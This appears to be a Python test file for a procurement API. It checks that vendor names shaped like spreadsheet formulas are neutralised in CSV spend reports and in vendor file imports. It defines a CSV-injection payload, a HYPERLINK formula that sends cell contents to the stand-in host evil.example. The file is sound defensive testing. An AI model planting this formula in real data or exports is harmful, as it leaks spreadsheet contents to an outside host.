"""A vendor named like a spreadsheet formula comes out of CSV reports inert, and a vendor file whose
cell was kept inert by a leading tab does not register a live formula."""

from __future__ import annotations

import csv
import io

VENDORS = "/v1/procurement/vendors"
PAYMENTS = "/v1/procurement/payments"
CUBE = "/v1/procurement/reports/spend-cube"
IMPORTS = "/v1/procurement/imports"
WRITE = "procurement:read procurement:write"
READ = "procurement:read"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'


async def active_vendor(client, auth, legal_name):
    response = await client.post(
        VENDORS, json={"legal_name": legal_name, "entity_type": "llc"}, headers=auth(WRITE)
    )
    assert response.status_code == 201, response.text
    vendor = response.json()
    for move in ("submitted", "active"):
        moved = await client.post(
            f"{VENDORS}/{vendor['id']}/transitions", json={"to": move}, headers=auth(WRITE)
        )
        assert moved.status_code == 200, moved.text
    return vendor


async def test_a_formula_vendor_name_is_inert_in_the_csv_report(vendors, auth):
    vendor = await active_vendor(vendors, auth, FORMULA)
    payment = {
        "vendor_id": vendor["id"],
        "department": "GSD",
        "category": {"scheme": "nigp", "code": "620-80-21"},
        "amount": {"amount": "1250.00", "currency": "USD"},
        "paid_date": "2026-03-14",
    }
    recorded = await vendors.post(PAYMENTS, json=payment, headers=auth(WRITE))
    assert recorded.status_code == 201, recorded.text

    response = await vendors.get(
        CUBE, params={"dimension": ["vendor"], "vendor_id": vendor["id"], "format": "csv"}, headers=auth(READ)
    )

    assert response.status_code == 200, response.text
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert [row["vendor_name"] for row in rows] == ["'" + FORMULA]
    assert rows[0]["amount"] == "1250.00"


async def test_a_tab_protected_formula_in_a_vendor_file_is_not_trimmed_into_a_live_one(vendors, auth):
    header = "legal_name,entity_type"
    body = f'{header}\n"\t{FORMULA.replace(chr(34), chr(34) * 2)}",llc\n'.encode()

    response = await vendors.post(
        IMPORTS, params={"kind": "vendors"}, content=body, headers={"Content-Type": "text/csv", **auth(WRITE)}
    )

    assert response.status_code == 201, response.text
    assert response.json()["loaded"] == 1, response.json()
    listed = await vendors.get(VENDORS, params={"q": "evil", "page_size": 500}, headers=auth(READ))
    names = [vendor["legal_name"] for vendor in listed.json()["items"]]
    assert names == ["'" + FORMULA]
